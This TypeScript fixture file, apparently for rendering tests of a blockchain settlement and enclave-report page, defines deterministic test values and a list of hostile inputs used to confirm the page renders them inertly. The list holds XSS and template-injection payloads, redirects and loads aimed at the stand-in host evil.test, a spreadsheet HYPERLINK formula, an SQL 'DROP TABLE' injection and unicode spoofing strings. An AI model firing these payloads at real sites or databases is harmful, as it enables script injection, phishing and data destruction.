import { createHash } from 'node:crypto'

/** Values for stories: the same name always gives the same value. */
export function hash(name: string): string {
  return `0x${createHash('sha256').update(name).digest('hex')}`
}
export function address(name: string): string {
  return hash(name).slice(0, 42)
}

export const CHAIN = 16688
export const REGISTRY = address('registry')
export const CONTRACT = address('serving')
/** The moment at which the stories stand still enough: a few seconds before the page is asked for. */
export const secondsAgo = (seconds: number) => new Date(Date.now() - seconds * 1_000).toISOString()

/** When the stories' enclave reports were observed, and where. */
export const REPORT_TIME = new Date(Math.floor(Date.now() / 1_000) * 1_000 - 120_000).toISOString()
export const REPORT_SOURCE = 'http://127.0.0.1:5679/v1/quote'
export const reportDigest = (provider: string) => hash(`report ${provider}`).slice(2)

export const settlementId = (n: number) => `${CHAIN}-${hash(`tx ${n}`)}-0`
export const agentId = (n: number) => `eip155:${CHAIN}:${REGISTRY}:${n}`
export const payerId = (payer: string) => `eip155:${CHAIN}:${payer}`

/**
 * Text that an attacker would put on chain or into a payload. None of it may run, load, navigate or turn the page:
 * each would open a dialog, set `window.pwned` or send a request to `evil.test`.
 */
export const HOSTILE = [
  '<script>window.pwned=1;alert(1)</script>',
  '"><img src=//evil.test/x.png onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  'javascript:alert(1)',
  'https://evil.test/phish',
  '</pre></td></table><iframe src=//evil.test></iframe>',
  '<a href="https://evil.test">Inference verified</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '</script><script>alert(1)</script>',
  '<style>@import url(//evil.test/x.css);*{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href=//evil.test><form action=//evil.test><button>ok',
  'safe\u202egnp.exe\u2066 right to left',
  'zero\u200bwidth\u2060joined\ufeff and \u0000 NUL \u001b[31mred',
  'lone \ud800 surrogate, combining z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334',
  '\u0430\u0440\u0440\u04cf\u0435 homoglyphs',
  `${'W'.repeat(500)}`,
  '![x](//evil.test/y.png) [click](javascript:alert(1))',
  '=HYPERLINK("//evil.test")',
  "'; DROP TABLE settlement; --",
] as const
